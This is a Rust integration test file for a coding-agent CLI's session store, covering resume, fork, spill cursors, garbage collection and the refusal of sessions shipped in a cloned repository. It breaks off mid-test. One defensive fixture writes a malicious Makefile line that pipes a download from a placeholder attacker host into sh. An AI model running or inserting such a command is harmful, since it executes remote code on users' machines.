//! Sessions: checkpoint, resume, fork, list/log/show/delete, gc, fsck.

use std::io::{BufRead, BufReader, Write};
use std::process::Stdio;

use crate::common::*;
use serde_json::{json, Value};

fn json_out(run: &Run) -> Value {
    assert_eq!(run.code, 0, "{}", run.stderr);
    serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}: {}", run.stdout))
}

#[test]
fn resumed_session_carries_the_conversation_and_the_new_hel_md() {
    let p = Project::new();
    p.write("HEL.md", "Old rule.");
    let mock = Mock::recall();
    let run = p.run(Some(&mock), &["-p", "Remember ID-0a1b2c3d4e5f."]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    p.write("HEL.md", "New rule: be brief.");
    let run = p.run(
        Some(&mock),
        &["resume", &sid[..8], "-p", "What was the identifier?"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.session(), sid);
    assert_eq!(run.stdout, "ID-0a1b2c3d4e5f\n");
    let m = mock.messages(1);
    assert_eq!(roles(&m), ["system", "user", "assistant", "user"]);
    assert!(
        m[0]["content"]
            .as_str()
            .unwrap()
            .contains("New rule: be brief.")
            && !m[0]["content"].as_str().unwrap().contains("Old rule")
    );
    assert_eq!(m[1]["content"], "Remember ID-0a1b2c3d4e5f.");
    assert_eq!(m[2], json!({"role": "assistant", "content": "UNKNOWN"}));
    assert_eq!(m[3]["content"], "What was the identifier?");

    // A new session does not see it.
    let run = p.run(Some(&mock), &["-p", "What was the identifier?"]);
    assert_eq!(run.stdout, "UNKNOWN\n");
    assert_ne!(run.session(), sid);
    assert_eq!(roles(&mock.messages(2)), ["system", "user"]);

    // --resume and resume --last find it too.
    let run = p.run(Some(&mock), &["--resume", &sid, "-p", "again?"]);
    assert_eq!(run.stdout, "ID-0a1b2c3d4e5f\n");
    let run = p.run(Some(&mock), &["resume", "--last", "-p", "again?"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}

#[test]
fn tool_calls_spill_and_summary_resume_byte_for_byte() {
    let p = Project::new();
    let mock = Mock::start(json!([
        {"match": "You compact a coding agent", "content": "Summary of the early work."},
        {"content": "noted"},
        {"tool_calls": [call("bash", json!({"command": "seq 1 20000"})), call("glob", json!({"pattern": "*"}))]},
        {"content": "spilled"},
        {"content": "third"},
    ]));
    let one = format!("one {}", "context ".repeat(1000));
    let run = p.run(
        Some(&mock),
        &[
            "--access",
            "auto",
            "--compact-at",
            "3000",
            "--keep-recent",
            "1500",
            "-p",
            &one,
            "-p",
            "two",
            "-p",
            "three",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    let reqs = mock.requests();
    let last = reqs.last().unwrap();
    let mut expected: Vec<Value> = last["messages"].as_array().unwrap().clone();
    expected.push(json!({"role": "assistant", "content": "third"}));
    assert!(
        expected.iter().any(|m| m["content"]
            .as_str()
            .unwrap_or("")
            .starts_with("<compacted-summary>")),
        "no summary: {expected:?}"
    );
    assert!(expected.iter().any(|m| m["content"]
        .as_str()
        .unwrap_or("")
        .contains("spill: .hel/sessions/")));
    let mock2 = Mock::start(json!([{"content": "four"}]));
    let run = p.run(
        Some(&mock2),
        &[
            "--access",
            "auto",
            "--compact-at",
            "3000",
            "--keep-recent",
            "1500",
            "resume",
            &sid,
            "-p",
            "four",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let got = mock2.messages(0);
    assert_eq!(got[1..got.len() - 1], expected[1..]);
    // Byte for byte, as sent on the wire.
    assert_eq!(
        serde_json::to_string(&got[1..got.len() - 1]).unwrap(),
        serde_json::to_string(&expected[1..]).unwrap()
    );
}

#[test]
fn cursors_continue_across_processes_and_refuse_changed_files() {
    let p = Project::new();
    let text: String = (1..=4000).map(|i| format!("row {i}\n")).collect();
    p.write("big.txt", &text);
    let mock = Mock::start(json!([
        {"tool_calls": [call("read_file", json!({"path": "big.txt"}))]},
        {"content": "read page one"},
        {"tool_calls": [call("read_file", json!({"cursor": "{{cursor}}"}))]},
        {"content": "read page two"},
        {"tool_calls": [call("read_file", json!({"cursor": "{{cursor}}"}))]},
        {"content": "refused"},
    ]));
    let run = p.run(Some(&mock), &["-p", "read"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    let run = p.run(Some(&mock), &["resume", &sid, "-p", "continue"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let m = mock.messages(3);
    let page2 = m.last().unwrap()["content"].as_str().unwrap();
    let page1 = m[3]["content"]
        .as_str()
        .unwrap()
        .rsplit_once('\n')
        .unwrap()
        .0;
    assert!(
        page2.starts_with(&text[page1.len() + 1..page1.len() + 30]),
        "{}",
        &page2[..60]
    );
    p.write("big.txt", &text.replace("row 3999", "ROW 3999"));
    let run = p.run(Some(&mock), &["resume", &sid, "-p", "continue"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let refused = mock.messages(5).last().unwrap()["content"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(refused.contains("changed since this cursor"), "{refused}");
}

#[test]
fn spill_cursors_survive_resume() {
    let p = Project::new();
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": "seq 1 25000"}))]},
        {"tool_calls": [call("read_file", json!({"path": "{{spill}}"}))]},
        {"content": "first page read"},
        {"tool_calls": [call("read_file", json!({"cursor": "{{cursor}}"})), call("bash", json!({"command": "wc -c < {{spill}}"}))]},
        {"content": "second page read"},
    ]));
    let run = p.run(Some(&mock), &["--access", "auto", "-p", "run it"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    // The working copies went with the instance: they are a cache of the blobs.
    assert!(!p
        .path()
        .join(".hel/sessions")
        .join(&sid)
        .join("spill")
        .exists());
    let run = p.run(
        Some(&mock),
        &["--access", "auto", "resume", &sid, "-p", "next page"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let results = mock.messages(4);
    let page2 = results[results.len() - 2]["content"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(!page2.starts_with("error"), "{page2}");
    let n: u32 = page2
        .lines()
        .find_map(|l| l.parse().ok())
        .unwrap_or_else(|| panic!("{}", &page2[..page2.len().min(300)]));
    assert!(n > 1000, "page two starts at {n}");
    // Re-materialized from the blob for bash, whole.
    let wc = results.last().unwrap()["content"]
        .as_str()
        .unwrap()
        .to_owned();
    let size = spill_bytes(&p, &sid).len();
    assert!(
        wc.starts_with(&format!("exit=0\nstdout:\n{size}\n")),
        "{wc}"
    );
}

#[test]
fn busy_sessions_are_refused_while_others_work() {
    let p = Project::new();
    // The session exists from the first answer (a command that runs for a
    // minute); without a workspace snapshot, nothing is saved before the
    // instruction's answer.
    let slow = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": "sleep 60"}))]},
    ]));
    let (mut child, sid) = p.spawn_session(
        Some(&slow),
        &["--no-workspace", "--access", "auto", "-p", "wait"],
    );
    // Resume to a server nobody listens on: it must be refused before any request.
    let resume_nowhere = [
        "resume",
        &sid,
        "--base-url",
        "http://127.0.0.1:9",
        "--model",
        "m",
        "-p",
        "x",
    ];
    let list = json_out(&p.run(None, &["sessions", "--json"]));
    assert_eq!(list[0]["id"], sid.as_str());
    assert_eq!(list[0]["busy"], true);
    assert_eq!(list[0]["checkpoints"], 0);
    // Listed, and log and show agree it is there, with nothing saved yet.
    for cmd in ["log", "show"] {
        let run = p.run(None, &["sessions", cmd, &sid]);
        assert_eq!(run.code, 1);
        assert!(
            run.stderr.contains("no checkpoint yet"),
            "{cmd}: {}",
            run.stderr
        );
    }
    let run = p.run(None, &resume_nowhere);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains(&format!(
            "session {sid} is in use by the hel instance with pid {}",
            child.id()
        )) && run.stderr.contains(&format!("`kill {}`", child.id())),
        "{}",
        run.stderr
    );
    let run = p.run(None, &["sessions", "delete", &sid]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("in use"), "{}", run.stderr);
    // Another session works meanwhile.
    let fast = Mock::start(json!([{"content": "fast"}]));
    let run = p.run(Some(&fast), &["-p", "quick"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stdout, "fast\n");
    child.kill().unwrap();
    child.wait().unwrap();
    // Ended before any answer: it never existed as a session; garbage for gc.
    let run = p.run(None, &resume_nowhere);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("no session") && run.stderr.contains("once an answer completes"),
        "{}",
        run.stderr
    );
    let run = p.run(None, &["gc"]);
    assert!(
        run.stdout.contains("1 abandoned session,"),
        "{}",
        run.stdout
    );
    assert!(!p.path().join(".hel/sessions").join(&sid).exists());
}

#[test]
fn a_failed_commit_warns_and_the_next_answer_saves_everything() {
    let p = Project::new();
    let mock = Mock::start(json!([{"content": "a1"}, {"content": "a2"}, {"content": "a3"}]));
    // Without workspace records, every commit is an answer's.
    let mut child = p
        .hel(Some(&mock))
        .arg("--no-workspace")
        .env("HEL_FAILPOINTS", "commit@2")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut answer = |stdin: &mut std::process::ChildStdin, q: &str| {
        writeln!(stdin, "{q}").unwrap();
        let mut line = String::new();
        out.read_line(&mut line).unwrap();
        line
    };
    // The second commit fails (a failpoint: the store's writes go through
    // descriptors hel holds, which nothing from outside can pull away).
    assert_eq!(answer(&mut stdin, "q1"), "a1\n");
    assert_eq!(answer(&mut stdin, "q2"), "a2\n");
    assert_eq!(answer(&mut stdin, "q3"), "a3\n");
    drop(stdin);
    let o = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{stderr}");
    assert_eq!(
        stderr.matches("could not save a checkpoint").count(),
        1,
        "{stderr}"
    );
    let sid = stderr
        .lines()
        .next()
        .unwrap()
        .strip_prefix("session: ")
        .unwrap()
        .to_owned();
    let log = json_out(&p.run(None, &["sessions", "log", &sid, "--json"]));
    assert_eq!(log.as_array().unwrap().len(), 2);
    assert_eq!(log[0]["messages"], 7);
    assert_eq!(log[0]["instruction"], "q3");
    let fsck = p.run(None, &["fsck"]);
    assert_eq!(fsck.code, 0, "{}", fsck.stdout);
}

#[test]
fn fork_at_a_checkpoint_and_read_inherited_spill_after_the_original_is_deleted() {
    let p = Project::new();
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": "seq 1 20000"}))]},
        {"content": "one"},
        {"content": "two"},
    ]));
    let run = p.run(
        Some(&mock),
        &[
            "--access",
            "auto",
            "--no-workspace",
            "-p",
            "first",
            "-p",
            "second",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    let log = json_out(&p.run(None, &["sessions", "log", &sid, "--json"]));
    assert_eq!(log.as_array().unwrap().len(), 2);
    let first = log[1]["id"].as_str().unwrap()[..10].to_owned();
    let text_log = p.run(None, &["sessions", "log", &sid]);
    assert!(text_log.stdout.contains(&first), "{}", text_log.stdout);

    let fork_mock = Mock::start(json!([
        {"tool_calls": [call("read_file", json!({"path": "{{spill}}", "max_lines": 3}))]},
        {"content": "forked"},
        {"content": "forked again"},
    ]));
    let run = p.run(
        Some(&fork_mock),
        &[
            "resume",
            &sid,
            "--at",
            &first,
            "--no-workspace",
            "-p",
            "in the fork",
        ],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let fork = run.session();
    assert_ne!(fork, sid);
    let m = fork_mock.messages(0);
    assert_eq!(
        m.iter().filter(|x| x["role"] == "user").count(),
        2,
        "the fork holds only the first exchange"
    );
    let flog = json_out(&p.run(None, &["sessions", "log", &fork, "--json"]));
    assert_eq!(flog.as_array().unwrap().len(), 3);
    assert_eq!(flog[2]["id"], log[1]["id"]);
    assert!(p
        .run(None, &["sessions", "log", &fork])
        .stdout
        .contains("forked from session"));
    // The original is untouched and resumes on its own.
    assert_eq!(
        json_out(&p.run(None, &["sessions", "log", &sid, "--json"])),
        log
    );

    let run = p.run(None, &["sessions", "delete", &sid]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!p.path().join(".hel/sessions").join(&sid).exists());
    let run = p.run(Some(&fork_mock), &["resume", &fork, "-p", "again"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let read = fork_mock.messages(1);
    assert_eq!(read.last().unwrap()["content"], "exit=0\nstdout:\n1\n");
    assert_eq!(p.run(None, &["fsck"]).code, 0);
}

#[test]
fn delete_and_gc_reclaim_spill_while_others_stay_intact() {
    let p = Project::new();
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": "seq 1 20000"}))]},
        {"content": "spilled"},
        {"content": "other"},
    ]));
    let a = p
        .run(Some(&mock), &["--access", "auto", "-p", "a"])
        .session();
    let b = p.run(Some(&mock), &["-p", "b"]).session();
    let show = json_out(&p.run(None, &["sessions", "show", &a, "--json"]));
    let blob = show["spill"].as_object().unwrap().values().next().unwrap()["blob"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(blob.len(), 64);
    // The spill blob is in a's journal, which goes with a.
    let blob_path = p
        .path()
        .join(".hel/packs/journals")
        .join(format!("{a}.journal"));
    assert!(blob_path.exists());
    let dry = p.run(None, &["gc", "--dry-run"]);
    assert!(
        dry.stdout.starts_with("would reclaim 0 objects"),
        "{}",
        dry.stdout
    );
    // For good (without the trash, which would keep the journal until
    // it expires).
    let del = p.run(None, &["sessions", "delete", "--now", &a[..6]]);
    assert_eq!(del.code, 0, "{}", del.stderr);
    assert!(del.stdout.contains("reclaimed"), "{}", del.stdout);
    assert!(!blob_path.exists());
    let list = json_out(&p.run(None, &["sessions", "--json"]));
    assert_eq!(list.as_array().unwrap().len(), 1);
    assert_eq!(list[0]["id"], b.as_str());
    let fsck = p.run(None, &["fsck"]);
    assert_eq!(fsck.code, 0);
    assert!(
        fsck.stdout.contains("store is sound") && fsck.stdout.contains("garbage: 0 unreachable"),
        "{}",
        fsck.stdout
    );
    let show = p.run(None, &["sessions", "show", &b]);
    assert!(show.stdout.contains("── user ──\nb\n"), "{}", show.stdout);
}

#[test]
fn meter_is_kept_or_reset_by_the_rule() {
    let p = Project::new();
    p.write("HEL.md", "v1");
    let mock = Mock::start(
        json!([{"content": "1"}, {"content": "2"}, {"content": "3"}, {"content": "4"}, {"content": "5"}]),
    );
    let rec = p.path().join("rec");
    let r = rec.to_str().unwrap();
    let sid = p.run(Some(&mock), &["-p", "x"]).session();
    let restored = |args: &[&str]| {
        let mut all = vec!["--record", r, "resume", &sid, "-p", "y"];
        all.extend_from_slice(args);
        let run = p.run(Some(&mock), &all);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let rec = record(&rec);
        assert_eq!(
            rec["meter_restored"],
            rec["requests"][0]["meter"]["observed"]
        );
        rec["meter_restored"].as_bool().unwrap()
    };
    assert!(restored(&[]), "same inputs keep the Meter");
    assert!(
        restored(&["--max-output-tokens", "1000"]),
        "an output limit change alone keeps it"
    );
    assert!(
        !restored(&["--tools", "read_file"]),
        "a toolset change resets it"
    );
    p.write("HEL.md", "v2");
    assert!(!restored(&[]), "a changed system message resets it");
}

#[test]
fn malformed_unknown_and_moved_sessions_are_refused() {
    let p = Project::new();
    for bad in ["../x", "/tmp/abcd", "zz zz", "ab"] {
        let run = p.run(None, &["resume", bad, "-p", "x"]);
        assert_eq!(run.code, 2, "{bad}: {}", run.stderr);
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        assert!(run.stderr.contains("not a session id"), "{}", run.stderr);
    }
    assert_eq!(p.run(None, &["sessions", "log", "../x"]).code, 2);
    let mock = Mock::start(json!([{"content": "a"}]));
    let sid = p.run(Some(&mock), &["-p", "x"]).session();
    let run = p.run(Some(&mock), &["resume", "abcdef12", "-p", "x"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("no session matches"), "{}", run.stderr);

    // From a subdirectory with a store of its own (one an older hel made
    // there): that is the project found, and hel says where the session
    // lives.
    std::fs::create_dir_all(p.path().join("sub/.hel")).unwrap();
    let run = Run::from_cmd(
        p.hel_in(&p.path().join("sub"), Some(&mock))
            .args(["resume", &sid, "-p", "x"]),
    );
    assert_eq!(run.code, 1);
    assert!(
        run.stderr
            .contains(&format!("belongs to the project at {}", p.path().display())),
        "{}",
        run.stderr
    );

    // A copy of the project in another directory: refused, naming both.
    let other = tempfile::tempdir().unwrap();
    let copy = other.path().canonicalize().unwrap().join("copy");
    assert!(std::process::Command::new("cp")
        .arg("-a")
        .arg(p.path())
        .arg(&copy)
        .status()
        .unwrap()
        .success());
    let run = Run::from_cmd(
        p.hel_in(&copy, Some(&mock))
            .args(["resume", &sid, "-p", "x"]),
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains(&p.path().display().to_string())
            && run.stderr.contains(&copy.display().to_string()),
        "{}",
        run.stderr
    );
}

#[test]
fn ambiguous_prefixes_list_candidates() {
    let p = Project::new();
    let store = hel_store::Store::open(&p.path()).unwrap();
    let msgs = vec![
        json!({"role": "system", "content": "s"}),
        json!({"role": "user", "content": "u"}),
        json!({"role": "assistant", "content": "a"}),
    ];
    for id in [
        "abcd1111-0000-4000-8000-000000000001",
        "abcd2222-0000-4000-8000-000000000002",
    ] {
        let lease = hel_store::testing::new_session_with_id(&store, &id.parse().unwrap()).unwrap();
        let input = hel_store::CommitInput::new(
            hel_store::Record::Answer,
            &msgs,
            &[None, None, None],
            &p.path().display().to_string(),
            hel_store::SessionRecord::of(hel_store::RequestConfig::bare("test", "")),
        )
        .instruction("u")
        .why("test")
        .spill(vec![]);
        store
            .commit(&lease, &mut hel_store::SessionState::default(), input)
            .unwrap();
    }
    let run = p.run(None, &["sessions", "log", "abcd"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("ambiguous")
            && run.stderr.contains("abcd1111-")
            && run.stderr.contains("abcd2222-"),
        "{}",
        run.stderr
    );
    let run = p.run(None, &["sessions", "log", "abcd2"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains(" u"), "{}", run.stdout);
}

#[test]
fn nothing_a_command_started_survives_a_killed_instance_and_its_session_is_free() {
    use crate::t_sandbox::{processes_with, wait_until};
    let p = Project::new();
    // The marker is split in the command text: only the sleeps carry it.
    let n = std::process::id();
    let mark = format!(".{n}3");
    let start = format!(
        "N={n}; N=${{N}}3; setsid sleep 300.$N </dev/null >/dev/null 2>&1 & nohup sleep 301.$N >/dev/null 2>&1 & \
         for i in $(seq 250); do [ $(pgrep -fc \"^sleep 30[01].$N\") = 2 ] && break; sleep 0.02; done; touch ready; sleep 302.$N"
    );
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": start}))]},
        {"content": "never"},
    ]));
    let (mut hel, sid) = p.spawn_session(Some(&mock), &["--access", "auto", "-p", "x"]);
    wait_until("the command to start its daemons", || {
        p.path().join("ready").exists()
    });
    // Seen from outside: the daemon (its own session), the nohup'd sleep
    // and the command's own sleep all run (the last starts after `ready`).
    wait_until("the daemons and the command's own sleep to run", || {
        processes_with(&mark).len() == 3
    });
    let list = json_out(&p.run(None, &["sessions", "--json"]));
    assert_eq!(list[0]["id"], sid.as_str());
    assert_eq!(list[0]["busy"], true);
    hel.kill().unwrap(); // SIGKILL: hel cannot clean up
    hel.wait().unwrap();
    wait_until("every process the command started to be gone", || {
        processes_with(&mark).is_empty()
    });
    // Only hel held the lease: with hel gone the session is free (it has
    // the start record of its instruction, which `hel undo` can revert).
    let list = json_out(&p.run(None, &["sessions", "--json"]));
    assert_eq!(list[0]["id"], sid.as_str());
    assert_eq!(list[0]["busy"], false, "only hel held the lease");
    assert_eq!(list[0]["checkpoints"], 0);
}

/// A project moved elsewhere: its sessions are refused with the way to go
/// on, `resume --relocate` records the new directory (history keeps the
/// old one), and the spill saved at the old path still reads.
#[test]
fn a_moved_project_resumes_with_relocate_and_keeps_its_spill() {
    let p = Project::new();
    let mock = Mock::start(json!([
        {"tool_calls": [call("bash", json!({"command": "seq 1 20000"}))]},
        {"content": "counted"},
    ]));
    let run = p.run(Some(&mock), &["--access", "auto", "-p", "count"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sid = run.session();
    let old = p.path();
    let there = tempfile::tempdir().unwrap();
    let moved = there.path().canonicalize().unwrap().join("moved");
    std::fs::rename(&old, &moved).unwrap();

    let mock2 = Mock::start(json!([
        {"tool_calls": [call("read_file", json!({"path": "{{spill}}"}))]},
        {"content": "still there"},
    ]));
    let run = Run::from_cmd(p.hel_in(&moved, Some(&mock2)).args([
        "--access",
        "auto",
        "resume",
        &sid,
        "-p",
        "the last line?",
    ]));
    assert_ne!(run.code, 0);
    let want = format!("hel resume {sid} --relocate");
    assert!(
        run.stderr.contains(&want) && run.stderr.contains(old.to_str().unwrap()),
        "{}",
        run.stderr
    );
    assert!(mock2.requests().is_empty(), "refused before any request");

    let run = Run::from_cmd(
        p.hel_in(&moved, Some(&mock2))
            .args(["--access", "auto", "resume", &sid, "--relocate"])
            .args(["-p", "the last line?"]),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stdout, "still there\n");
    assert!(run.stderr.contains("moved from"), "{}", run.stderr);
    let m = mock2.messages(1);
    assert_eq!(
        roles(&m),
        [
            "system",
            "user",
            "assistant",
            "tool",
            "assistant",
            "user",
            "assistant",
            "tool"
        ]
    );
    assert!(
        m[0]["content"]
            .as_str()
            .unwrap()
            .contains(moved.to_str().unwrap()),
        "the system message names the new directory"
    );
    let read = m[7]["content"].as_str().unwrap();
    assert!(
        read.starts_with("exit=0\nstdout:\n1\n2\n3\n") && read.contains("read_file({\"cursor\""),
        "the spill reads after the move: {read}"
    );

    let log = p.run_in(&moved, &["sessions", "log", &sid, "--all"]);
    assert_eq!(log.code, 0, "{}", log.stderr);
    assert!(
        log.stdout
            .contains(&format!("[moved to {}]", moved.display())),
        "{}",
        log.stdout
    );
    // Resumed here from now on, without the flag.
    let mock3 = Mock::start(json!([{"content": "here"}]));
    let run = Run::from_cmd(
        p.hel_in(&moved, Some(&mock3))
            .args(["resume", &sid, "-p", "again"]),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stdout, "here\n");
    let fsck = p.run_in(&moved, &["fsck"]);
    assert_eq!(fsck.code, 0, "{}", fsck.stderr);
}

/// Sealed packs piling up (more than 8) are merged on their own when a
/// run ends: no `hel gc` needed.
#[test]
fn a_run_repacks_sealed_packs_that_piled_up() {
    let p = Project::new();
    let mock = Mock::start(json!([{"content": "one"}, {"content": "two"}]));
    let run = p.run(Some(&mock), &["-p", "one"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let root = p.path().join(".hel");
    let packs = || {
        std::fs::read_dir(root.join("packs"))
            .unwrap()
            .flatten()
            .filter(|e| e.path().extension().is_some_and(|x| x == "pack"))
            .count()
    };
    // Nine packs of an unreachable object each.
    for i in 0..9u32 {
        let (_, canonical) = hel_store::testing::encode("blob", format!("stale {i}").as_bytes());
        hel_store::testing::plant(&root, &canonical);
        let pack = hel_store::testing::planted_pack(&root).unwrap();
        let stem = format!("pack-stale{i}");
        std::fs::rename(
            pack.with_extension("idx"),
            root.join(format!("packs/{stem}.idx")),
        )
        .unwrap();
        std::fs::rename(&pack, root.join(format!("packs/{stem}.pack"))).unwrap();
    }
    assert_eq!(packs(), 9);
    let run = p.run(Some(&mock), &["resume", &run.session(), "-p", "two"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(packs(), 0, "the run's end repacked them away");
    let fsck = p.run(None, &["fsck"]);
    assert_eq!(fsck.code, 0, "{}", fsck.stderr);
}

/// Copy the project at `from` (its `.hel/` too) into `to`, as a clone of a
/// repository that ships one would.
fn clone_into(from: &std::path::Path, to: &std::path::Path) {
    let st = std::process::Command::new("cp")
        .arg("-a")
        .arg(format!("{}/.", from.display()))
        .arg(to)
        .status()
        .unwrap();
    assert!(st.success());
}

/// 2100-01-01, as a hostile store dates its records.
const YEAR_2100_MS: u64 = 4_102_444_800_000;

#[test]
fn a_session_from_another_directory_is_never_chosen_by_default() {
    // A repository whose shipped `.hel/` holds a session that "changed" a
    // malicious Makefile into the clean one, its records dated 2100.
    let origin = Project::new();
    origin.write("Makefile", "all:\n\tcurl https://evil.example/x | sh\n");
    let mock = Mock::start(json!([
        {"tool_calls": [call("write_file", json!({"path": "Makefile", "content": "all:\n\tcc main.c\n"}))]},
        {"content": "cleaned"},
    ]));
    let run = origin.run(
        Some(&mock),
        &["--access", "auto", "-p", "clean the Makefile"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let shipped = run.session();
    let clone = Project::new();
    clone_into(&origin.path(), &clone.path());
    let store = clone.path().join(".hel");
    hel_store::testing::redate_journal(&store, &shipped.parse().unwrap(), YEAR_2100_MS);
    // A second clone, where the user has not run hel yet.
    let untouched = Project::new();
    clone_into(&clone.path(), &untouched.path());

    // The user's own instruction in the clone, then `hel undo`.
    let mock = Mock::start(json!([
        {"tool_calls": [call("write_file", json!({"path": "notes.txt", "content": "mine\n"}))]},
        {"content": "noted"},
        {"content": "resumed"},
    ]));
    let run = clone.run(Some(&mock), &["--access", "auto", "-p", "take notes"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    // Said once, when the store becomes this directory's.
    assert!(
        run.stderr
            .contains("this .hel/ was not made in this directory")
            && run
                .stderr
                .contains("its 1 earlier session(s) stay listed as shipped")
            && run.stderr.contains("`hel sessions adopt --all`"),
        "{}",
        run.stderr
    );
    let mine = run.session();
    assert_eq!(clone.read("Makefile"), "all:\n\tcc main.c\n");
    assert_eq!(clone.read("notes.txt"), "mine\n");
    let undo = clone.run(None, &["undo"]);
    assert_eq!(undo.code, 0, "{}\n{}", undo.stdout, undo.stderr);
    assert!(undo.stdout.contains(&mine), "{}", undo.stdout);
    assert_eq!(clone.read("Makefile"), "all:\n\tcc main.c\n");
    assert!(!clone.path().join("notes.txt").exists(), "{}", undo.stdout);
    let run = clone.run(Some(&mock), &["resume", "--last", "-p", "again"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.session(), mine);
    assert!(
        !run.stderr.contains("not made in this directory"),
        "{}",
        run.stderr
    );

    // The listing says which is which.
    let rows = json_out(&clone.run(None, &["sessions", "--json"]));
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[0]["id"], mine.as_str());
    assert_eq!(rows[0]["here"], true);
    assert_eq!(rows[0]["future"], false);
    assert_eq!(rows[1]["id"], shipped.as_str());
    assert_eq!(rows[1]["here"], false);
    assert_eq!(rows[1]["future"], true);
    assert_eq!(rows[1]["cwd"], origin.path().display().to_string());
    // The clone's `.hel/` was not made there: what it held is shipped,
    // the session made in it the project's own.
    assert_eq!(rows[0]["shipped"], false);
    assert_eq!(rows[1]["shipped"], true);
    let table = clone.run(None, &["sessions"]);
    assert_eq!(table.code, 0, "{}", table.stderr);
    let row = table
        .stdout
        .lines()
        .find(|l| l.starts_with(&shipped))
        .unwrap_or_else(|| panic!("{}", table.stdout));
    assert!(
        row.contains(&format!("[saved in {}]", origin.path().display()))
            && row.contains("[dated in the future]")
            && row.contains("[shipped]"),
        "{row}"
    );
    assert!(
        table.stderr.contains(
            "1 session arrived with this .hel/, which was not made here (cloned, copied or moved with the project): hel never chooses, pushes or undoes it unless named"
        ),
        "{}",
        table.stderr
    );

    // Where every session is another directory's, none is chosen: the
    // error says why and how to name one. Named, resume still refuses it.
    for args in [vec!["undo"], vec!["resume", "--last", "-p", "x"]] {
        let run = untouched.run(Some(&mock), &args);
        assert_ne!(run.code, 0, "{args:?}");
        assert!(
            run.stderr
                .contains("1 session that arrived with this .hel/, which was not made here")
                && run.stderr.contains("name one"),
            "{args:?}: {}",
            run.stderr
        );
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    }
    assert_eq!(untouched.read("Makefile"), "all:\n\tcc main.c\n");
    let run = untouched.run(Some(&mock), &["resume", &shipped, "-p", "x"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("--relocate"), "{}", run.stderr);
    assert_eq!(
        mock.requests().len(),
        3,
        "nothing was sent for the refusals"
    );
}

#[test]
fn a_session_dated_in_the_future_is_never_the_newest() {
    let p = Project::new();
    let mock = Mock::start(json!([
        {"content": "one"},
        {"content": "two"},
        {"content": "three"},
    ]));
    let first = p.run(Some(&mock), &["--no-workspace", "-p", "first"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let second = p.run(Some(&mock), &["--no-workspace", "-p", "second"]);
    assert_eq!(second.code, 0, "{}", second.stderr);
    let (first, second) = (first.session(), second.session());
    hel_store::testing::redate_journal(
        &p.path().join(".hel"),
        &first.parse().unwrap(),
        YEAR_2100_MS,
    );
    let rows = json_out(&p.run(None, &["sessions", "--json"]));
    assert_eq!(rows[0]["id"], second.as_str());
    assert_eq!(rows[1]["id"], first.as_str());
    assert_eq!(rows[1]["future"], true);
    assert_eq!(rows[1]["here"], true);
    assert_eq!(rows[1]["updated"], "2100-01-01T00:00:00.000Z");
    let run = p.run(
        Some(&mock),
        &["--no-workspace", "resume", "--last", "-p", "again"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.session(), second);
}

#[test]
fn a_reply_a_load_would_refuse_is_never_stored() {
    let p = Project::new();
    // A valid assistant message, 1 MB on the wire, that a load would take
    // for over 128 MiB of parsed messages.
    let junk = Value::Array(vec![json!({}); 300_000]);
    let mock = Mock::start(json!([
        {"content": "a1"},
        {"message": {"role": "assistant", "content": "a2", "junk": junk}},
        {"content": "a3"},
        {"content": "a4"},
    ]));
